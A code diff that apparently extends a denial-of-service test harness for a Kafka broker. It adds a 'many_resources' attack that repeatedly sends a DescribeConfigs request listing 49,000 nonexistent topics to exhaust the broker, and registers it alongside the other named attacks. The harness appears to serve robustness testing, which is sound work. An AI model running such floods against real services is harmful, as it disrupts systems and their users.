@@ -164,6 +164,18 @@ def many_elements(attack: Attack) -> None:
     attack.many(4, lambda: pour(attack, attack.kafka, frame))
 
 
+def many_resources(attack: Attack) -> None:
+    """Each of them is checked and answered."""
+    resources = tuple(
+        DescribeConfigsResource(resource_type=2, resource_name=f"no-such-topic-{number}")
+        for number in range(49_000)
+    )
+    frame = encode_request(
+        apis.DESCRIBE_CONFIGS, 4, 1, "x", DescribeConfigsRequest(resources=resources)
+    )
+    attack.many(4, lambda: pour(attack, attack.kafka, frame))
+
+
 def pipelined(attack: Attack) -> None:
     body = ApiVersionsRequest(client_software_name="x", client_software_version="1")
     frames = encode_request(apis.API_VERSIONS, 3, 1, "x", body) * 500
@@ -213,6 +225,7 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
     "large-headers": large_headers,
     "many-voters": many_voters,
     "many-elements": many_elements,
+    "many-resources": many_resources,
     "pipelined": pipelined,
     "handshakes": handshakes,
 }
